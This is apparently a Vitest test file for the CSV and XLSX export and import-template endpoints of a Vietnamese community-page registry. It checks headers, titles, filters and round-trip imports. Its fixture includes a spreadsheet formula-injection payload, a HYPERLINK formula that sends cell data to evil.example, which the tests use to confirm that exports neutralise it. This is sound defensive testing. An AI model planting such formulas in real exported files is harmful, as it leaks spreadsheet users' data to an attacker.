import type { ImportDryRunResponse } from '@mttq/core';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInAs, type TestSession } from '../test/auth';
import { openDemoApp } from '../test/demo-app';
import { csvFile, postRequest, uploadRequest } from './test-files';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const BOM = [0xef, 0xbb, 0xbf];

let demo: ReturnType<typeof openDemoApp>;
let admin: TestSession;

async function download(path: string) {
  const response = await demo.app.request(path);
  return { status: response.status, headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) };
}

const textOf = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8');

/** Every cell of the first sheet of a workbook, as stored. */
async function xlsxRows(bytes: Uint8Array): Promise<ExcelJS.CellValue[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const rows: ExcelJS.CellValue[][] = [];
  workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

async function importFile(bytes: Uint8Array, fileName = 'import.csv'): Promise<ImportDryRunResponse> {
  const response = await demo.app.request('/api/v1/imports/dry-run', uploadRequest(bytes, admin, { fileName }));
  expect(response.status).toBe(200);
  return (await response.json()) as ImportDryRunResponse;
}

beforeAll(async () => {
  demo = openDemoApp({ defaultScheme: 'legacy63' });
  admin = await signInAs(demo.db, 'admin');
  // A page whose name a spreadsheet would run as a formula, in Huyện Hữu Lũng (Lạng Sơn).
  const plan = await importFile(csvFile([['Mã xã', 'URL', 'Tên trang', 'Ngày lập'], ['06394', 'https://www.facebook.com/formula.test', HOSTILE_NAME, '2022-01-01']]));
  expect(plan.rows[0]!.outcome).toBe('create');
  expect((await demo.app.request(`/api/v1/imports/${plan.planId}/commit`, postRequest(admin))).status).toBe(200);
});
afterAll(() => demo.close());

describe('GET /exports/pages', () => {
  it('writes CSV as UTF-8 with a BOM, a title line with scheme and as-of date, and neutralises formula-like names', async () => {
    const { status, headers, bytes } = await download('/api/v1/exports/pages?scheme=legacy63&parent=186&asOf=2025-06-30&format=csv');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="trang-cong-dong_legacy63_2025-06-30_186.csv"');
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    const lines = textOf(bytes.slice(3)).split('\r\n');
    expect(lines[0]).toContain('(legacy63) — số liệu đến ngày 2025-06-30 — Huyện Hữu Lũng (186)');
    expect(lines[1]).toBe(
      'Mã tỉnh,Tỉnh,Mã huyện,Huyện,Mã xã,Tên xã,Tên trang,Nền tảng,Đường dẫn trang,Chủ quản,Ngày lập,Trạng thái (đến 2025-06-30),Còn hoạt động (live),Đang hoạt động (active),Đã xác minh (verified),Lượt theo dõi mới nhất',
    );
    const row = lines.find((line) => line.includes('formula.test'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(row).toMatch(/^20,Tỉnh Lạng Sơn,186,Huyện Hữu Lũng,06394,Xã Quyết Thắng,/);
    expect(lines.filter((line) => line.includes('=HYPERLINK') && !line.includes("'=HYPERLINK"))).toEqual([]);
  });

  it('writes XLSX with the title above a bold header, and the formula-like name as quoted text', async () => {
    const { status, headers, bytes } = await download('/api/v1/exports/pages?scheme=legacy63&parent=186&asOf=2025-06-30&format=xlsx');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(headers.get('content-disposition')).toBe('attachment; filename="trang-cong-dong_legacy63_2025-06-30_186.xlsx"');
    const rows = await xlsxRows(bytes);
    expect(String(rows[0]![0])).toContain('legacy63');
    expect(String(rows[0]![0])).toContain('2025-06-30');
    expect(rows[1]![8]).toBe('Đường dẫn trang');
    const hostile = rows.find((row) => row.includes('https://www.facebook.com/formula.test'))!;
    expect(hostile[6]).toBe(`'${HOSTILE_NAME}`);
    expect(rows.flat().some((cell) => typeof cell === 'object' && cell !== null && 'formula' in cell)).toBe(false);
  });

  it("holds exactly the pages the registry lists with the same filters, and names the filters", async () => {
    const filters = 'scheme=legacy63&asOf=2022-08-12&parent=01&status=live&platform=facebook&owner=front&q=huyen&sort=name';
    const list = (await (await demo.app.request(`/api/v1/pages?${filters}&limit=200`)).json()) as { total: number; items: Array<{ url: string }> };
    expect(list.total).toBeGreaterThan(0);
    expect(list.total).toBe(list.items.length);
    const { status, bytes } = await download(`/api/v1/exports/pages?${filters}&format=csv`);
    expect(status).toBe(200);
    const lines = textOf(bytes.slice(3)).split('\r\n').filter((line) => line !== '');
    expect(lines[0]).toContain('trạng thái: live, nền tảng: facebook, chủ quản: front, tìm: “huyen”');
    const urls = lines.slice(2).map((line) => line.match(/https:\/\/[^,]+/)?.[0]);
    expect(urls).toEqual(list.items.map((item) => item.url));
  });

  it('imports back unchanged, formula-like name included', async () => {
    const { bytes } = await download('/api/v1/exports/pages?scheme=legacy63&parent=186&asOf=2025-06-30&format=csv');
    const plan = await importFile(bytes);
    expect(plan.file.headerRow).toBe(2);
    expect(plan.totals.error).toBe(0);
    expect(plan.totals.rows).toBe(plan.totals.unchanged);
    expect(plan.totals.rows).toBeGreaterThan(5);
  });
});

describe('GET /exports/coverage', () => {
  it('writes the /coverage rows of a level with its scheme, as-of date and totals in the title', async () => {
    const { status, headers, bytes } = await download('/api/v1/exports/coverage?scheme=legacy63&asOf=2022-08-12&level=province&format=csv');
    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toBe('attachment; filename="do-phu_legacy63_2022-08-12_province.csv"');
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    const lines = textOf(bytes.slice(3)).trimEnd().split('\r\n');
    expect(lines[0]).toContain('(legacy63) — đến ngày 2022-08-12 — cấp tỉnh — toàn quốc — chủ quản: Ủy ban MTTQ');
    expect(lines[1]).toMatch(/^"?Tổng — tỉnh: 63\/63 có trang \(100%\)/);
    // Vietnamese numbers in the text line: thousands with a dot, decimals with a comma
    expect(lines[1]).toMatch(/xã: 5\.\d{3}\/10\.599 có trang \(54,5%\)/);
    expect(lines[2]).toMatch(/^Mã,Tên,Loại,Có trang,Trang hoạt động,Trang đã xác minh,Số trang,Số huyện,Số huyện có trang,/);
    expect(lines).toHaveLength(3 + 63);
    const coverage = (await demo.get('/api/v1/coverage?scheme=legacy63&asOf=2022-08-12&level=province')).body;
    const hanoi = coverage.rows.find((r: { code: string }) => r.code === '01');
    const line = lines.find((l) => l.startsWith('01,'))!.split(',');
    expect(line.slice(0, 4)).toEqual(['01', 'Thành phố Hà Nội', 'Thành phố', 'Có']);
    expect(Number(line[8])).toBe(hanoi.descendants.district.covered);
    expect(Number(line[13])).toBe(hanoi.descendants.commune.covered);
  });

  it('writes XLSX and answers a bad parameter with the 400 envelope', async () => {
    const { status, bytes } = await download('/api/v1/exports/coverage?scheme=reform34&asOf=2025-08-01&level=commune&parent=01&format=xlsx');
    expect(status).toBe(200);
    const rows = await xlsxRows(bytes);
    expect(String(rows[0]![0])).toContain('(reform34) — đến ngày 2025-08-01 — cấp xã — Thành phố Hà Nội (01)');
    expect(rows.length).toBeGreaterThan(100);
    const bad = await demo.app.request('/api/v1/exports/coverage?scheme=reform34&level=district');
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as any).error.details[0].path).toBe('level');
  });
});

describe('GET /imports/template', () => {
  it("lists every unit of the province with its pages, status and last month's figures, and imports back unchanged", async () => {
    const { status, headers, bytes } = await download('/api/v1/imports/template?scheme=legacy63&province=20&format=csv');
    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toBe('attachment; filename="mau-nhap_legacy63_20_2025-06-30.csv"');
    expect([...bytes.slice(0, 3)]).toEqual(BOM);
    const lines = textOf(bytes.slice(3)).trimEnd().split('\r\n');
    expect(lines[0]).toContain('Tỉnh Lạng Sơn (20) — trạng thái đến ngày 2025-06-30, số liệu tháng 2025-05');
    expect(lines[1]).toBe('Mã tỉnh,Tỉnh,Mã huyện,Huyện,Mã xã,Tên xã,Đường dẫn trang,Nền tảng,Tên trang,Chủ quản,Ngày lập,Trạng thái,Ghi chú,Tháng,Lượt theo dõi,Số bài,Tương tác,Lượt xem');
    const units = demo.db.prepare("SELECT code FROM units WHERE scheme = 'legacy63' AND province_code = '20'").pluck().all() as string[];
    const codesInFile = new Set(lines.slice(2).flatMap((line) => line.split(',').slice(0, 5).filter((cell) => /^\d+$/.test(cell))));
    expect(units.filter((code) => !codesInFile.has(code))).toEqual([]);
    expect(lines.slice(2).filter((line) => line.startsWith('20,Tỉnh Lạng Sơn,186,Huyện Hữu Lũng,06394,Xã Quyết Thắng,https://www.facebook.com/formula.test'))).toHaveLength(1);
    const pages = demo.db.prepare("SELECT count(*) FROM page_assignments a JOIN units u ON u.scheme = a.scheme AND u.code = a.unit_code WHERE a.scheme = 'legacy63' AND u.province_code = '20'").pluck().get() as number;
    expect(lines.filter((line) => line.includes('https://')).length).toBe(pages);
    expect(lines.some((line) => /,2025-05,\d+,\d+,\d+,/.test(line))).toBe(true);

    const plan = await importFile(bytes);
    expect(plan.totals).toMatchObject({ error: 0, create: 0, update: 0, metrics: 0 });
    expect(plan.totals.unchanged).toBe(plan.totals.rows);
  });

  it('comes as XLSX with a guide sheet, and imports back unchanged too', async () => {
    const { status, bytes } = await download('/api/v1/imports/template?scheme=reform34&province=01&format=xlsx');
    expect(status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Mẫu nhập', 'Hướng dẫn']);
    const header = (workbook.worksheets[0]!.getRow(2).values as string[]).slice(1);
    expect(header.slice(0, 5)).toEqual(['Mã tỉnh', 'Tỉnh', 'Mã xã', 'Tên xã', 'Đường dẫn trang']);
    const reform = await demo.app.request('/api/v1/imports/dry-run', uploadRequest(bytes, admin, { fileName: 'mau.xlsx', scheme: 'reform34' }));
    const body = (await reform.json()) as ImportDryRunResponse;
    expect(body.totals.error).toBe(0);
    expect(body.totals.unchanged).toBe(body.totals.rows);
    expect(body.totals.rows).toBeGreaterThan(100);
  });

  it('answers an unknown province with 400 naming it', async () => {
    const response = await demo.app.request('/api/v1/imports/template?scheme=reform34&province=77');
    expect(response.status).toBe(400);
    expect(((await response.json()) as any).error.details).toEqual([
      {
        path: 'province',
        key: 'import_template_not_province',
        params: { code: '77', scheme: 'reform34' },
        message: '“77” không phải mã tỉnh, thành trong danh mục reform34; hãy chọn tỉnh, thành trong danh sách.',
      },
    ]);
    const inEnglish = await demo.app.request('/api/v1/imports/template?scheme=reform34&province=77', { headers: { 'accept-language': 'en' } });
    expect(((await inEnglish.json()) as any).error.details[0].message).toBe('77 is not a province of reform34; choose a province from the list.');
  });
});
